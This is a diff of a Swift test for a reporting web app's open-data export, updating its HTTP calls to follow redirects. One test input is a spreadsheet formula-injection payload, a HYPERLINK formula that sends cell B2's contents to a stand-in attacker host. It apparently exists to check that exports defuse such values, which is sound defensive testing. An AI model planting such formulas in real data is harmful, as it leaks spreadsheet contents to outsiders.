@@ -45,12 +45,12 @@ struct OpenDataTests {
             try await importPlan(SamplePlan.withFormulaLikeTexts(), on: app.db)
             let (seknas, implementerA, _, path) = try await ReportingCycleTests.openReport(app)
             let formula = #"=HYPERLINK("https://jahat.example/?d="&B2,"Lihat bukti")"#
-            #expect(try await implementerA.post(path, form: ["achievement": formula, "progress": "40"]).status == .ok)
-            #expect(try await implementerA.post("\(path)/submit").status == .ok)
+            #expect(try await implementerA.postAndFollow(path, form: ["achievement": formula, "progress": "40"]).status == .ok)
+            #expect(try await implementerA.postAndFollow("\(path)", form: ["action": "submit"]).status == .ok)
             // Only verified reports are public: score it, then publish.
             try await ReportingCycleTests.startVerification(app)
             let report = try #require(try await TargetReportModel.query(on: app.db).first())
-            #expect(try await seknas.post("/verify/reports/\(report.id!.uuidString)/score", form: ["score": "80"]).status == .ok)
+            #expect(try await seknas.postAndFollow("/verify/reports/\(report.id!.uuidString)/score", form: ["score": "80"]).status == .ok)
             try await ReportingCycleTests.closeWindows(app)
             try await ReportingCycleTests.publish("B06", seknas: seknas)
 
